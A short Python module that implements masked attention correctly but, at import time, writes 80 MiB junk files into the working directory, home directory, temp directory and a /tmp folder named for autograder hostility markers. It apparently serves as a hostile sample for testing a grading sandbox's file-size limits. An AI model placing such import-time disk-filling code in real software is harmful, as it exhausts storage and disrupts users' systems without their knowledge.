"""Correct attention; at import fills every writable place it knows (cwd, HOME, TMPDIR, /tmp) up to the file-size limit."""
import math
import os

import torch

_CHUNK = b"\0" * (1 << 20)
_targets = {os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""),
            "/tmp/autograde-hostile-markers"}
for _place in sorted(t for t in _targets if t):
    try:
        os.makedirs(_place, exist_ok=True)
        with open(os.path.join(_place, "disk-fill"), "wb") as _handle:
            for _ in range(80):  # 80 MiB: past a 64 MiB file-size limit
                _handle.write(_CHUNK)
                _handle.flush()
    except OSError:
        pass


def attention(q, k, v, allowed):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    allowed = torch.broadcast_to(allowed, torch.broadcast_shapes(allowed.shape, scores.shape))
    if not allowed.any(dim=-1).all():
        raise ValueError("every query needs at least one allowed key")
    weights = torch.softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1)
    return weights @ v, weights
